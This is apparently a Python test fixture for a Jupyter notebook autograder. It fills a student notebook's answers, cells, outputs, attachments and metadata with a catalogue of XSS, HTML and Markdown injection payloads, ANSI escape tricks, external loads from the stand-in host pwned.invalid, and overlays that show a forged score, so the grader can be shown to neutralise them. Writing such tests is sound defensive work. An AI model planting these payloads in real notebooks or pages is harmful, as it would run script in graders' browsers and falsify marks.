"""HTML, SVG, JavaScript and Markdown wherever a student can write: answers, added and raw cells, attachments, code, stored and
fresh outputs, names of exceptions, metadata. The mark is 8; on the pages that a person opens nothing runs (no title `PWNED_…`),
nothing is asked of pwned.invalid, and no mark is hidden, covered or forged."""

import base64

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from tests.hostile import cell

KIND = "damage"
BASE = "correct"
EXPECT = {"status": "graded", "min_score": 8.0, "max_score": 8.0}

HOST = "http://pwned.invalid"
RUN = "document.title='PWNED_{0}'"
FORGED = "Score: 15.0 / 15.0"
# Raw HTML; {0} is the payload's own name, {run} the script that tells.
HTML = {
    "script": "<script>{run}</script>",
    "onerror": '<img src="x" onerror="{run}">',
    "svg_onload": '<svg onload="{run}"></svg>',
    "svg_script": "<svg><script>{run}</script></svg>",
    "ontoggle": '<details open ontoggle="{run}"><summary>s</summary></details>',
    "autofocus": '<input autofocus onfocus="{run}">',
    "animation": "<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart=\"{run}\">b</b>",
    "srcdoc": "<iframe srcdoc=\"<script>top.document.title='PWNED_{0}'</script>\"></iframe>",
    "javascript_link": '<a href="javascript:{run}">show the figure</a>',
    "javascript_form": '<form action="javascript:{run}"><button>Full credit</button></form>',
    "svg_link": '<svg width="90" height="20"><a href="javascript:{run}"><text y="15">figure</text></a></svg>',
    "broken_style": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">',
    "image": '<img src="{host}/{0}.png">',
    "protocol_relative": '<img src="//pwned.invalid/{0}.png">',
    "srcset": '<img srcset="{host}/{0}.png 1x">',
    "style_import": "<style>@import '{host}/{0}.css';</style>",
    "background": '<div style="background:url({host}/{0}.png)">b</div>',
    "stylesheet": '<link rel="stylesheet" href="{host}/{0}.css">',
    "prefetch": '<link rel="prefetch" href="{host}/{0}">',
    "iframe": '<iframe src="{host}/{0}"></iframe>',
    "object": '<object data="{host}/{0}"></object>',
    "embed": '<embed src="{host}/{0}">',
    "video": '<video src="{host}/{0}.mp4" poster="{host}/{0}.png"></video>',
    "base": '<base href="{host}/"><img src="{0}.png">',
    "refresh": '<meta http-equiv="refresh" content="0;url={host}/{0}">',
    "form": '<form action="{host}/{0}"><button>Full credit</button></form>',
    "overlay": '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:9999">{forged}</div>',
    "overlay_by_class": '<div class="navbar navbar-default navbar-fixed-top" style="height:100vh">{forged}</div>',
    "hiding_style": "<style>.panel-heading, .score {{display: none}}</style>",
    "break_out": "</div></div></div></div></div></div></div></div></div></div><h4>{forged}</h4>",
    "same_id": '<input id="reflection_beta" class="score tabbable" value="3"><h4 id="notebook">{forged}</h4>',
    "comment": "<!-- everything after this",
    "textarea": "<textarea>",
    "title": "<title>",
    "plaintext": "<plaintext>",
}
MARKDOWN = {
    "md_link": "[the figure](javascript:{run})",
    "md_angle": "<javascript:{run}>",
    "md_reference": "[the figure][f]\n\n[f]: javascript:{run}",
    "md_files": "[the figure](files/javascript:{run})",
    "md_data": "[the figure](data:text/html,<script>{run}</script>)",
    "md_image": '![figure]({host}/{0}.png "a title")',
    "md_alt": '![figure" onerror="{run}](x.png)',
    "md_title": "![figure](x.png 'a\" onerror=\"{run}')",
    "md_elsewhere": "[Next →]({host}/{0})",
    "md_same_server": "[the figure](figure.html) ![figure](/logout)",
    "md_mermaid": '```mermaid\n</pre><img src="x" onerror="{run}">\n```',
    "md_language": '```"><img/src=x/onerror={run}>\nx\n```',
    "md_formula": r"$\href{{javascript:{run}}}{{x}}$ $\text{{<img src=x onerror={run}>}}$ $\style{{position:fixed}}{{x}}$",
    "md_rule": r"$$\rule{{400em}}{{400em}} \hspace{{-90em}} \raise 90em {{\text{{" + FORGED + "}}}}$$",
    "md_heading": "# reflection_beta\n\n# notebook-container",
    "md_svg": "![figure](attachment:figure.svg)",
    "md_no_picture": "![figure](attachment:figure.png) ![figure](attachment:lost.png)",
}


def made(payloads):
    return {name: text.format(name, run=RUN.format(name), host=HOST, forged=FORGED) for name, text in payloads.items()}


PAYLOADS = made({**MARKDOWN, **HTML})
SCRIPT = PAYLOADS["script"] + PAYLOADS["onerror"]
# What an honest answer may hold, and must be seen.
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAACgAAAAUCAIAAABwJOjsAAAAI0lEQVR42mNgKNo0MGjU4lGLRy0etXjU"
    "4lGLRy0etXjkWAwA1s2QruXdIV8AAAAASUVORK5CYII="
)
HONEST = r"""A **bold word**, an *italic one*, `inline < code`.

- a list
- [x] a task that is done

| β | KL |
| --- | --: |
| 0.01 | 3.4 |

```python
std = torch.exp(logvar / 2)
```

In a line $\sigma_j^2 < 1$, and displayed

$$\mathrm{KL}(q \,\Vert\, p) = \tfrac12 \sum_{j=1}^{d} \left( \mu_j^2 + \sigma_j^2 - \log \sigma_j^2 - 1 \right)$$

![my figure](attachment:my%20figure.png)
"""
CODE = f"""\
# {SCRIPT} </pre></div>
import sys
from IPython.display import HTML, SVG, Javascript, Markdown, display
script = {SCRIPT!r}
display(HTML(script), Javascript({RUN.format("javascript")!r}), Markdown(script))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\\"{RUN.format("svg")}\\"/>"))
for mime in ("image/png", "image/jpeg", "text/latex", "application/vnd.jupyter.widget-view+json"):
    display({{mime: '"><img src="x" onerror="{RUN.format("mime")}">'}}, raw=True)
display({{"text/plain": script, "text/html": script}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
print(script, "\\x1b[31m" + script, "\\x1b[8m\\x1b[37;47m")
print("\\x1b]8;;javascript:{RUN.format("osc")}\\x1b\\\\figure\\x1b]8;;\\x1b\\\\")
print("\\x1b[9999;1H\\x1b[2J{FORGED}", script, file=sys.stderr)
raise type(script, (Exception,), {{}})(script)
"""
OUTPUTS = [
    new_output("display_data", {"text/html": SCRIPT, "application/javascript": RUN.format("stored"), "text/markdown": SCRIPT}),
    new_output("display_data", {"image/svg+xml": '<svg onload="' + RUN.format("stored_svg") + '"/>'}),
    new_output("display_data", {"image/png": '"><script>' + RUN.format("stored_png") + "</script>"}),
    new_output(
        "display_data",
        {"image/png": base64.b64encode(SCRIPT.encode()).decode()},
        metadata={"image/png": {"width": '"' + SCRIPT}},
    ),
    new_output("execute_result", {"text/plain": SCRIPT}, execution_count=None),
    new_output("stream", name="stdout", text=SCRIPT + "\x1b[8m"),
    new_output("error", ename=SCRIPT, evalue=SCRIPT, traceback=[SCRIPT, "\x1b[31m" + SCRIPT]),
]
SVG = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN.format("attached")}"/>'.encode()).decode()
ATTACHED = {
    "my figure.png": {"image/png": PNG},
    "figure.svg": {"image/svg+xml": SVG, "text/html": SCRIPT},
    "figure.png": {"image/png": '"><img src="x" onerror="' + RUN.format("attached_png") + '">'},
}


def apply(nb):
    added = new_code_cell(CODE, outputs=OUTPUTS, metadata={"tags": ['"><script>x</script>'], "name": SCRIPT})
    nb.cells.insert(nb.cells.index(cell(nb, "vae_model")), added)
    for grade_id in ("experiment_dynamics", "experiment_beta", "kl_divergence"):
        cell(nb, grade_id).outputs = OUTPUTS
    for grade_id in ("reflection_trick", "reflection_dynamics", "reflection_beta"):
        answer = cell(nb, grade_id)
        answer.source = HONEST + "\n\n" + "\n\n".join(PAYLOADS.values())
        answer.attachments = ATTACHED
        answer.metadata.update(title=SCRIPT, tags=[SCRIPT])
    for name, payload in PAYLOADS.items():
        markdown = new_markdown_cell(f"{name}\n\n{payload}", attachments=ATTACHED)
        markdown["id"] = f'"><img src=x onerror="{RUN.format("id")}">'
        raw = new_raw_cell(payload, metadata={"raw_mimetype": "text/html", "format": "text/html"})
        at = nb.cells.index(cell(nb, "reparameterize"))
        nb.cells[at:at] = [markdown, raw]
    nb.metadata.update(title=SCRIPT, authors=[{"name": SCRIPT}])
    nb.metadata["kernelspec"] = {"name": SCRIPT, "display_name": SCRIPT, "language": SCRIPT}
    nb.metadata["language_info"] = {"name": SCRIPT, "pygments_lexer": SCRIPT}
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"x": "</script>" + SCRIPT}}}
    return nb
